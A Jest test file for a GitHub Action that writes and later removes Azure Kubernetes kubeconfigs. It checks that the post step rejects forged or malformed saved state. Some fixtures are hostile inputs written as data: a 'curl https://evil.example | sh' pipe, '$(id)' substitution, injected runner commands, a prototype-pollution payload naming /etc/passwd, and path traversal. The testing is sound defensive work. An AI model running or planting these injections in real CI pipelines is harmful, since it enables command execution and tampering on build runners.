// A kubeconfig that is written is also removed: what the post step could not be told of is not written, and what the post step is
// told is believed only as far as a main step of the same job could have saved it.
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { type Emulator, startEmulator } from '../../emulator/emulator.ts'
import { stateLimits } from '../../src/model/state.ts'
import { readSavedState } from '../../src/modes/post/saved-state.ts'
import { hashOf } from '../../src/adapters/kubeconfig/names.ts'
import { azureInputs } from '../pipeline/kit.ts'
import { newFolder } from '../real/folder.ts'
import { postAction, removeFolders, run, type Run, runPost, statesOf, type Texts } from '../transcripts/kit.ts'
import { treeOf } from './tree.ts'

let emulator: Emulator
beforeAll(async () => {
  emulator = await startEmulator({ clusters: [{ name: 'one', pools: [{ name: 'pool', count: 1 }] }], azure: {} })
})
afterAll(async () => {
  await emulator.stop()
  removeFolders()
})

const onRunner = { GITHUB_ACTIONS: 'true', GITHUB_RUN_ID: '7', GITHUB_RUN_ATTEMPT: '1', GITHUB_JOB: 'refresh' }
const job = '7/1/refresh'
const inputsFor = (path: string): Texts => ({
  ...azureInputs(emulator),
  mode: 'refresh-credentials',
  clusters: 'rg1/one',
  'write-kubeconfig': path,
})

const kubeconfig = (name = 'aks1'): string => `apiVersion: v1
kind: Config
current-context: ${name}
clusters: [{ name: ${name}, cluster: { server: 'https://${name}.example' } }]
users: [{ name: ${name}, user: { token: token-of-${name} } }]
contexts: [{ name: ${name}, context: { cluster: ${name}, user: ${name} } }]
`
const added = { clusters: ['aks1'], users: ['aks1'], contexts: ['aks1'] }

describe('what the post step could not be told of', () => {
  type Prepare = (folder: string) => void
  const stateFiles: readonly (readonly [string, Texts, Prepare])[] = [
    ['is not named', {}, () => undefined],
    ['is empty', { GITHUB_STATE: '' }, () => undefined],
    ['lies in no folder', { GITHUB_STATE: 'not/there' }, () => undefined],
    ['is a device that forgets', { GITHUB_STATE: '/dev/null' }, () => undefined],
    ['is a device that is full', { GITHUB_STATE: '/dev/full' }, () => undefined],
    [
      'is a folder',
      { GITHUB_STATE: 'state' },
      (folder) => {
        mkdirSync(join(folder, 'state'))
      },
    ],
    [
      'is a pipe',
      { GITHUB_STATE: 'state' },
      (folder) => {
        execFileSync('mkfifo', [join(folder, 'state')])
      },
    ],
    [
      'is a link',
      { GITHUB_STATE: 'state' },
      (folder) => {
        writeFileSync(join(folder, 'elsewhere'), '')
        symlinkSync('elsewhere', join(folder, 'state'))
      },
    ],
  ]
  test.each(stateFiles)('is not written, and nothing is asked for, when GITHUB_STATE %s', async (_, env, prepare) => {
    const before = emulator.azure.state.log.length
    const ended = await run(inputsFor('kubeconfig'), { runnerFiles: false, env: { ...onRunner, ...env }, prepare })
    expect([ended.status, existsSync(join(ended.folder, 'kubeconfig'))]).toEqual([1, false])
    expect(ended.stdout).toMatch(/::error title=write-kubeconfig::.*GITHUB_STATE.*Set keep-credentials: true/)
    expect(ended.stdout).not.toContain('bug')
    expect(emulator.azure.state.log.length).toBe(before)
  })

  test('keeps a rotation from its start', async () => {
    const ended = await run(
      { ...inputsFor('kubeconfig'), mode: 'rotate', confirm: 'rg1/one', 'rotate-when': 'always' },
      { runnerFiles: false, env: onRunner },
    )
    expect([ended.status, emulator.azure.state.log.filter(({ method }) => method !== 'GET')]).toEqual([1, []])
  })

  test.each([
    ['with keep-credentials, because nothing is to be removed', { 'keep-credentials': 'true' }, onRunner, ''],
    ['without a runner, which the log says', {}, {}, 'no post step removes the kubeconfig. Remove it yourself.'],
  ] as const)('is written %s', async (_, inputs, env, said) => {
    const ended = await run({ ...inputsFor('kubeconfig'), ...inputs }, { runnerFiles: false, env })
    expect([ended.status, existsSync(join(ended.folder, 'kubeconfig'))]).toEqual([0, true])
    expect(ended.stdout).toContain(said)
  })

  test('is not written when the file system fills up between the start of the run and the kubeconfig', async () => {
    const path = join(newFolder(), 'kubeconfig')
    // a limit of the size of files stands in for a full disk: the phase still fits, the kubeconfig's record does not
    const preload = `data:text/javascript,${encodeURIComponent(`
      import fs from 'node:fs'
      import { syncBuiltinESMExports } from 'node:module'
      const write = fs.writeSync
      fs.writeSync = (file, bytes, ...rest) => {
        if (!String(bytes).includes('kubeconfig_1')) return write(file, bytes, ...rest)
        write(file, bytes.subarray(0, 20))
        throw Object.assign(new Error('no space'), { code: 'ENOSPC', syscall: 'write' })
      }
      syncBuiltinESMExports()`)}`
    const ended = await run(inputsFor(path), { env: onRunner, nodeOptions: ['--import', preload] })
    expect([ended.status, existsSync(path)]).toEqual([1, false])
    expect(ended.stdout).toContain(
      'was not written, because the file that GITHUB_STATE names has no room left (ENOSPC)',
    )
    expect(Object.keys(statesOf(ended.files['state'] ?? ''))).toEqual(['STATE_phase'])
  })
})

test('a state of very many kubeconfigs still lets the post step start: more are refused before they are written', async () => {
  const script = join(import.meta.dirname, 'save-many.ts')
  const state = join(newFolder(), 'state')
  writeFileSync(state, '')
  const { stdout } = spawnSync(process.execPath, [script], {
    env: { ...onRunner, GITHUB_STATE: state },
    encoding: 'utf8',
  })
  const { saved, refused } = JSON.parse(stdout) as { readonly saved: number; readonly refused: string }
  const states = statesOf(readFileSync(state, 'utf8'))
  expect([Object.keys(states).length, saved > 1000]).toEqual([saved, true])
  expect(refused).toMatch(/was not written, because the state of this step has no room left after \d+ kubeconfigs/)
  const size = Object.values(states).reduce((sum, text) => sum + text.length, 0)
  expect(size).toBeLessThanOrEqual(stateLimits.all)
  const ended = await run({}, { script: postAction, env: { ...onRunner, ...states } })
  expect(ended.status).toBe(1)
  expect(ended.stdout).toMatch(/, and \d+ more\. It was ignored/)
  expect(readSavedState({ ...onRunner, ...states }).kubeconfigs.length).toBe(saved)
})

/** A folder with what a forged state is after, and the post step of a step that names `named` there. */
async function postWith(
  states: (folder: string) => Texts,
  prepare: (folder: string) => void,
  inputs: (folder: string) => Texts = (folder) => inputsFor(join(folder, 'kubeconfig')),
): Promise<{ readonly ended: Run; readonly before: readonly string[]; readonly after: readonly string[] }> {
  const folder = newFolder()
  prepare(folder)
  const before = treeOf(folder)
  const ended = await run(inputs(folder), { script: postAction, env: { ...onRunner, ...states(folder) } })
  return { ended, before, after: treeOf(folder) }
}

type Change = Readonly<Record<string, unknown>>
const record = (folder: string, change: Change = {}, of = job): string =>
  JSON.stringify({
    job: of,
    value: { path: join(folder, 'kubeconfig'), sha256: hashOf(kubeconfig()), added, ...change },
  })
const written = (folder: string): void => {
  writeFileSync(join(folder, 'kubeconfig'), kubeconfig(), { mode: 0o600 })
  writeFileSync(join(folder, 'precious'), 'precious', { mode: 0o640 })
  writeFileSync(join(folder, 'kubeconfig.aks-cert-guard.bak'), kubeconfig('mine'))
}

describe('a state that is not of this step', () => {
  const sha256 = hashOf(kubeconfig())
  const precious = hashOf('precious')
  const forged: readonly (readonly [string, (folder: string) => string])[] = [
    ['is of another run', (folder) => record(folder, {}, '8/1/refresh')],
    ['is of another attempt', (folder) => record(folder, {}, '7/2/refresh')],
    ['is of another job', (folder) => record(folder, {}, '7/1/other')],
    ['has no job', (folder) => JSON.stringify({ value: { path: join(folder, 'kubeconfig'), sha256, added } })],
    ['names another file', (folder) => record(folder, { path: join(folder, 'precious'), sha256: precious })],
    [
      'names a copy that is another file',
      (folder) => record(folder, { before: { backup: join(folder, 'precious'), sha256: precious } }),
    ],
    [
      'names a copy above the file',
      (folder) =>
        record(folder, { before: { backup: `${folder}/kubeconfig.aks-cert-guard.bak/../precious`, sha256: precious } }),
    ],
    [
      'names a copy of another number',
      (folder) => record(folder, { before: { backup: `${folder}/kubeconfig.aks-cert-guard.0.bak`, sha256 } }),
    ],
    ['has a relative path', () => record('', { path: 'kubeconfig' })],
    ['has a path with a null', (folder) => record(folder, { path: `${folder}/kubeconfig\0` })],
    ['has a path that is a list', (folder) => record(folder, { path: [join(folder, 'kubeconfig')] })],
    [
      'has a link elsewhere',
      (folder) => record(folder, { path: join(folder, 'precious'), link: join(folder, 'kubeconfig') }),
    ],
    ['has a SHA-256 that is none', (folder) => record(folder, { sha256: sha256.toUpperCase() })],
    ['has names that are numbers', (folder) => record(folder, { added: { ...added, users: [1] } })],
    ['has another field', (folder) => record(folder, { mode: 0o777 })],
    ['has a prototype', (folder) => record(folder).replace('"path"', '"__proto__":{"path":"/etc/passwd"},"path"')],
    ['is null', () => 'null'],
    ['is a list', (folder) => `[${record(folder)}]`],
    ['is a text', () => '"kubeconfig"'],
    ['is no JSON', () => '{"job":'],
    ['is a list of as many entries as a variable can hold', () => `[${'{},'.repeat(40_000)}{}]`],
    ['is 10,000 deep', () => '['.repeat(10_000)],
  ]
  test.each(forged)('and %s removes nothing, and the job fails with what to check', async (_, state) => {
    const { ended, before, after } = await postWith((folder) => ({ STATE_kubeconfig_1: state(folder) }), written)
    expect(after).toEqual(before)
    expect([ended.status, ended.stderr]).toEqual([1, ''])
    expect(ended.stdout).toContain('The state of this step is not what its main step saves: STATE_kubeconfig_1 ')
    expect(ended.stdout).not.toContain('bug')
  })

  const others: readonly (readonly [string, Texts])[] = [
    ['of a mode that writes none', { mode: 'check' }],
    ['that keeps credentials', { 'keep-credentials': 'true' }],
    ['without write-kubeconfig', { 'write-kubeconfig': '' }],
    ['that writes elsewhere', { 'write-kubeconfig': '/tmp/elsewhere' }],
  ]
  test.each(others)('but of a step %s removes nothing', async (_, inputs) => {
    const { ended, before, after } = await postWith(
      (folder) => ({ STATE_kubeconfig_1: record(folder) }),
      written,
      (folder) => ({ ...inputsFor(join(folder, 'kubeconfig')), ...inputs }),
    )
    expect(after).toEqual(before)
    expect(ended.status).toBe(1)
  })

  test('but of a folder of kubeconfigs removes no other file of that folder, whose content is known to everybody', async () => {
    const manifest = 'kind: Deployment\n'
    const { ended, before, after } = await postWith(
      (folder) => ({
        STATE_kubeconfig_1: record(folder, { path: join(folder, 'deployment.yaml'), sha256: hashOf(manifest) }),
      }),
      (folder) => {
        writeFileSync(join(folder, 'deployment.yaml'), manifest)
      },
      (folder) => ({ ...inputsFor(folder), clusters: 'rg1/one\nrg1/two' }),
    )
    expect(after).toEqual(before)
    expect(ended.stdout).toContain('this job did not write what is there now, and it was left alone')
  })

  test('of 100,000 entries is read to its end, and believed where it can be', () => {
    const many = Array.from({ length: 100_000 }, (_, index) => [`STATE_kubeconfig_${index + 1}`, 'null'] as const)
    const { kubeconfigs, problems } = readSavedState({
      ...Object.fromEntries(many),
      ...onRunner,
      STATE_kubeconfig_1: record('/tmp'),
    })
    expect([kubeconfigs.length, problems.length]).toEqual([1, 9998])
  })
})

describe('a file that is not what was recorded', () => {
  const state = (change: Change) => (folder: string) => ({ STATE_kubeconfig_1: record(folder, change) })

  test.each(['a link', 'a folder', 'a pipe'])(
    'because it is %s is left alone, and so is what it leads to',
    async (kind) => {
      const { ended, before, after } = await postWith(state({}), (folder) => {
        written(folder)
        rmSync(join(folder, 'kubeconfig'))
        writeFileSync(join(folder, 'target'), kubeconfig())
        if (kind === 'a link') symlinkSync('target', join(folder, 'kubeconfig'))
        else if (kind === 'a folder') mkdirSync(join(folder, 'kubeconfig'))
        else execFileSync('mkfifo', [join(folder, 'kubeconfig')])
      })
      expect([after, ended.status]).toEqual([before, 0])
      expect(ended.stdout).toContain('::warning title=Left alone::')
    },
  )

  test.each(['part', 'bak'])('beside it, a link as .%s, is left alone with what it leads to', async (suffix) => {
    const before = { backup: '', sha256: hashOf(kubeconfig('mine')) }
    const { after } = await postWith(
      (folder) => ({
        STATE_kubeconfig_1: record(folder, {
          before: { ...before, backup: join(folder, 'kubeconfig.aks-cert-guard.bak') },
        }),
      }),
      (folder) => {
        written(folder)
        rmSync(join(folder, `kubeconfig.aks-cert-guard.${suffix}`), { force: true })
        writeFileSync(join(folder, 'mine'), kubeconfig('mine'))
        symlinkSync('mine', join(folder, `kubeconfig.aks-cert-guard.${suffix}`))
      },
    )
    expect(after).toContain(`kubeconfig.aks-cert-guard.${suffix} link to mine`)
    expect(after.filter((line) => line.startsWith('mine '))).toHaveLength(1)
    expect(after.join('\n')).not.toContain(hashOf(kubeconfig()))
  })

  test('loses what this job added, and a copy that somebody changed is neither put back nor removed', async () => {
    const { ended, before, after } = await postWith(
      (folder) => ({
        STATE_kubeconfig_1: record(folder, {
          before: { backup: join(folder, 'kubeconfig.aks-cert-guard.bak'), sha256: hashOf('another content') },
        }),
      }),
      written,
    )
    const own = (line: string): boolean => !line.startsWith('kubeconfig file')
    expect(after.filter(own)).toEqual(before.filter(own))
    expect(ended.stdout).toContain('is not the copy that this job made')
    expect(after.join('\n')).not.toContain(hashOf(kubeconfig()))
  })

  test.each([0o644, 0o600, 0o640, 0o444])(
    'the file from before comes back with its content and its mode (%o)',
    async (mode) => {
      const folder = newFolder()
      const path = join(folder, 'kubeconfig')
      writeFileSync(path, kubeconfig('mine'), { mode })
      const inputs = { ...inputsFor(path), 'overwrite-existing': 'true' }
      const ended = await run(inputs, { env: onRunner })
      expect([ended.status, readFileSync(path, 'utf8') === kubeconfig('mine')]).toEqual([0, false])
      const after = await runPost(inputs, ended.files['state'] ?? '', { env: onRunner })
      expect([after.status, readFileSync(path, 'utf8'), statSync(path).mode & 0o777]).toEqual([
        0,
        kubeconfig('mine'),
        mode,
      ])
      expect(treeOf(folder)).toHaveLength(1)
    },
  )
})

describe('what was left unfinished', () => {
  const pool = { cluster: 'sub/rg1/aks1', resourceGroup: 'rg1', clusterName: 'aks1', pool: 'pool', count: 2 }
  const post = (value: unknown) =>
    run(
      {},
      {
        script: postAction,
        env: { ...onRunner, STATE_unfinished: typeof value === 'string' ? value : JSON.stringify({ job, value }) },
      },
    )

  test('is one annotation with what to do', async () => {
    const { status, stdout } = await post(pool)
    expect([status, stdout.split('\n').filter((line) => line.includes('::'))]).toEqual([
      0,
      [expect.stringMatching(/^::error title=Left unfinished::sub\/rg1\/aks1: node pool pool .*--node-count 2$/)],
    ])
  })

  test.each([
    ['a command of the runner', '::add-mask::x\n::stop-commands::y'],
    ['a command in a name', { ...pool, cluster: 'x\n::set-env name=PATH::/tmp' }],
    ['a shell command', { ...pool, pool: 'x; curl https://evil.example | sh' }],
    ['a shell command in the group', { ...pool, resourceGroup: '$(id)' }],
    ['control characters', { ...pool, cluster: '\u001b[2Jall is well' }],
    ['a very long name', { ...pool, cluster: 'x'.repeat(10_000) }],
    ['no count', { ...pool, count: '2' }],
  ])('is not shown when it holds %s', async (_, value) => {
    const { status, stdout } = await post(value)
    const commands = stdout.split(/\r\n|\r|\n/).filter((line) => /^\s*::|##\[/.test(line))
    expect(status).toBe(1)
    expect(commands).toEqual([
      expect.stringMatching(/^::error::The state of this step is not what its main step saves/),
    ])
    expect(stdout.length).toBeLessThan(1000)
  })
})
